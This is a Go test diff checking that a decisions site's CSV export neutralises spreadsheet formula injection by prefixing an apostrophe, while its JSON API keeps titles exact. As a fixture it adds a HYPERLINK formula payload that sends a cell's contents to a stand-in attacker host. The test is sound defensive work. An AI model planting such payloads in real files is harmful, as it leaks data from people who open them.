@@ -208,6 +208,7 @@ func TestCSVRoundTrips(t *testing.T) {
 	t.Parallel()
 	ts := newTestServer(t)
 	title := "Knives, \"quotes\" and\r\nnew lines, =SUM(A1) ünïcödé"
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
 	_, err := ts.pool.Exec(context.Background(), `INSERT INTO decisions (series, number, reference, slug, title, summary, status)
 		VALUES ('MD', 77, 'MD 77', 'md-77', $1, $2, 'published')`, title, "Line one\nline two, \"quoted\"")
 	if err != nil {
@@ -223,6 +224,21 @@ func TestCSVRoundTrips(t *testing.T) {
 	}
 	if rows[1][3] != "Line one\nline two, \"quoted\"" {
 		t.Errorf("summary = %q", rows[1][3])
+	}
+	// A title a spreadsheet would run as a formula is written as text; the API keeps it exact.
+	for _, start := range []string{"=", "+", "-", "@", "\t"} {
+		if _, err := ts.pool.Exec(context.Background(), `UPDATE decisions SET title = $1 WHERE slug = 'md-77'`,
+			start+formula[1:]); err != nil {
+			t.Fatal(err)
+		}
+		rows := csvRows(t, ts, "/decisions.csv?series=MD")
+		if len(rows) != 2 || rows[1][2] != "'"+start+formula[1:] {
+			t.Errorf("CSV title for %q = %q, want it after an apostrophe", start+formula[1:], rows[1][2])
+		}
+	}
+	var api struct{ Title string }
+	if err := json.Unmarshal([]byte(ts.get(t, "/api/v1/decisions/md-77").body), &api); err != nil || api.Title != "\t"+formula[1:] {
+		t.Errorf("API title = %q (%v), want the title exactly as held", api.Title, err)
 	}
 	// Money and years as the site writes them.
 	for _, row := range csvRows(t, ts, "/decisions.csv?q=pcd+1682")[1:] {
